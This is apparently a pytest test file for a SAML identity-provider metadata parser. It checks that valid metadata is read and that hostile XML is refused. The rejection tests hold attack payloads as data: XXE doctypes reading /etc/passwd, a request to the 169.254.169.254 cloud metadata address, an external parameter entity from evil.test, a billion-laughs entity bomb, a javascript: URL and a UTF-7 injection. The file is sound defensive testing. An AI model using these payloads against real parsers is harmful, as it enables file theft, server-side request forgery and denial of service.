"""Reading what an identity provider says of itself, which is hostile input."""

from datetime import UTC, datetime, timedelta

import pytest

from charter.core.enterprise_connections.idp_metadata import (
    LONGEST_BYTES,
    MOST_CERTIFICATES,
    read_metadata,
)
from charter.core.enterprise_connections.model import MetadataIncomplete, MetadataInvalid
from charter.core.instances.model import Environment
from charter.core.keys.lookup import lookup
from tests.companies import (
    ENTITY_ID,
    POST,
    SAML,
    SSO_URL,
    certificate,
    key_descriptor,
    metadata,
    service,
)
from tests.costs import cost
from tests.world import new_world

NOW = datetime.now(UTC)
ENTITIES = (
    '<md:EntitiesDescriptor xmlns:md="urn:oasis:names:tc:SAML:2.0:metadata">{}{}'
    "</md:EntitiesDescriptor>"
)
LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))


@pytest.fixture
async def instance(platform, app):
    made = await new_world(platform, app, Environment.PRODUCTION)
    return await lookup(platform).instance(made.instance_id)


async def test_the_three_things_that_a_sign_in_needs_are_read(instance):
    found = read_metadata(metadata().encode(), instance, NOW)
    assert (found.entity_id, found.sso_url) == (ENTITY_ID, SSO_URL)
    assert [each.pem for each in found.certificates] == [certificate()]


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16"])
async def test_a_document_may_come_with_a_mark_of_its_encoding(instance, encoding):
    text = metadata(before='<?xml version="1.0"?>')
    assert read_metadata(text.encode(encoding), instance, NOW).entity_id == ENTITY_ID


async def test_a_redirect_is_preferred_and_a_form_is_fine(instance):
    both = service(POST, "https://idp.acme.test/post") + service()
    assert read_metadata(metadata(services=both).encode(), instance, NOW).sso_url == SSO_URL
    one = service(POST, "https://idp.acme.test/post")
    found = read_metadata(metadata(services=one).encode(), instance, NOW)
    assert found.sso_url == "https://idp.acme.test/post"


async def test_keys_that_sign_are_read_and_those_that_encrypt_are_not(instance):
    long, short = certificate(days=700), certificate()
    keys = (
        key_descriptor(certificate(days=800), ' use="encryption"')
        + key_descriptor(short)
        + key_descriptor(long, "")
        + key_descriptor(short)
    )
    found = read_metadata(metadata(keys=keys).encode(), instance, NOW)
    assert [each.pem for each in found.certificates] == [long, short]


async def test_one_identity_provider_in_a_list_is_found_and_two_are_refused(instance):
    other = '<md:EntityDescriptor entityID="urn:sp"><md:SPSSODescriptor/></md:EntityDescriptor>'
    text = ENTITIES.format(metadata(), other)
    assert read_metadata(text.encode(), instance, NOW).entity_id == ENTITY_ID
    with pytest.raises(MetadataInvalid):
        read_metadata(ENTITIES.format(metadata(), metadata()).encode(), instance, NOW)


@pytest.mark.security("F6")
async def test_a_comment_within_a_certificate_hides_nothing(instance):
    pem = certificate()
    text = metadata().replace("</ds:X509Certificate>", "<!-- x --></ds:X509Certificate>")
    assert read_metadata(text.encode(), instance, NOW).certificates[0].pem == pem


@pytest.mark.parametrize(
    ("parts", "missing"),
    [
        ({"entity_id": ""}, "idp_entity_id"),
        ({"services": ""}, "idp_sso_url"),
        ({"services": service("urn:oasis:names:tc:SAML:2.0:bindings:SOAP")}, "idp_sso_url"),
        ({"keys": ""}, "idp_certificate"),
        ({"keys": "", "services": ""}, "idp_sso_url, idp_certificate"),
    ],
)
async def test_what_is_missing_is_named(instance, parts, missing):
    with pytest.raises(MetadataIncomplete) as refused:
        read_metadata(metadata(**parts).encode(), instance, NOW)
    assert refused.value.meta["missing_fields"] == missing


@pytest.mark.security("F6")
@pytest.mark.parametrize(
    "text",
    [
        "",
        "not xml",
        "<a/>",
        metadata()[:-5],
        metadata(protocols="urn:oasis:names:tc:SAML:1.1:protocol"),
        metadata(before="<!DOCTYPE a>"),
        metadata(before='<!DOCTYPE a SYSTEM "file:///etc/passwd">'),
        metadata(before='<!DOCTYPE a SYSTEM "http://169.254.169.254/latest">'),
        metadata(before='<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>').replace(
            ENTITY_ID, "&x;"
        ),
        metadata(before=f'<!DOCTYPE a [<!ENTITY l0 "ha">{LAUGHS}]>').replace(ENTITY_ID, "&l9;"),
        metadata(before='<!DOCTYPE a [<!ENTITY % p SYSTEM "http://evil.test/p">%p;]>'),
        metadata().replace(ENTITY_ID, "&undeclared;"),
        metadata(services=service(url="javascript:alert(1)")),
        metadata(services=service(url="http://idp.acme.test/sso")),
        metadata(services=service(url="https://ann@idp.acme.test/sso")),
        metadata(entity_id=f' entityID="{"x" * 1025}"'),
        metadata(more=' validUntil="2020-01-01T00:00:00Z"'),
        metadata(more=' validUntil="soon"'),
        metadata(protocols=f'{SAML}" validUntil="2020-01-01T00:00:00Z'),
        metadata(keys="<md:KeyDescriptor/>" + key_descriptor(certificate(bits=1024))),
        metadata().replace("MII", "XXX"),
        "<a>" * 300 + metadata() + "</a>" * 300,
        " " * (LONGEST_BYTES + 1),
    ],
    ids=range(23),
)
async def test_what_is_no_metadata_to_be_trusted_is_refused(instance, text):
    with pytest.raises(MetadataInvalid):
        read_metadata(text.encode(), instance, NOW)


@pytest.mark.security("F6")
@pytest.mark.parametrize("encoding", ["utf-16", "utf-7", "cp037", "utf-32"])
async def test_no_encoding_hides_a_document_type(instance, encoding):
    declared = encoding if encoding != "cp037" else "IBM037"
    head = f'<?xml version="1.0" encoding="{declared}"?><!DOCTYPE a [<!ENTITY x "y">]>'
    with pytest.raises(MetadataInvalid):
        read_metadata(metadata(before=head).encode(encoding), instance, NOW)


@pytest.mark.security("F6")
async def test_a_declared_encoding_is_not_believed(instance):
    # Read as UTF-7, the text in the attribute would close it and open another element.
    head = '<?xml version="1.0" encoding="UTF-7"?>'
    text = metadata(before=head, entity_id=' entityID="urn:+ACIAPg-x"')
    assert read_metadata(text.encode(), instance, NOW).entity_id == "urn:+ACIAPg-x"


@pytest.mark.security("F6")
async def test_a_hundred_thousand_elements_are_refused_or_read_at_once(instance):
    many = metadata(services=service() * 4000).encode()
    assert read_metadata(many, instance, NOW).sso_url == SSO_URL
    assert cost(lambda: read_metadata(many, instance, NOW)) < 2
    keys = key_descriptor(certificate()) * (MOST_CERTIFICATES + 1)
    with pytest.raises(MetadataInvalid):
        read_metadata(metadata(keys=keys).encode(), instance, NOW)


async def test_metadata_holds_until_it_says(instance):
    until = (NOW + timedelta(hours=1)).isoformat()
    text = metadata(more=f' validUntil="{until}"').encode()
    assert read_metadata(text, instance, NOW).entity_id == ENTITY_ID
    with pytest.raises(MetadataInvalid):
        read_metadata(text, instance, NOW + timedelta(hours=2))
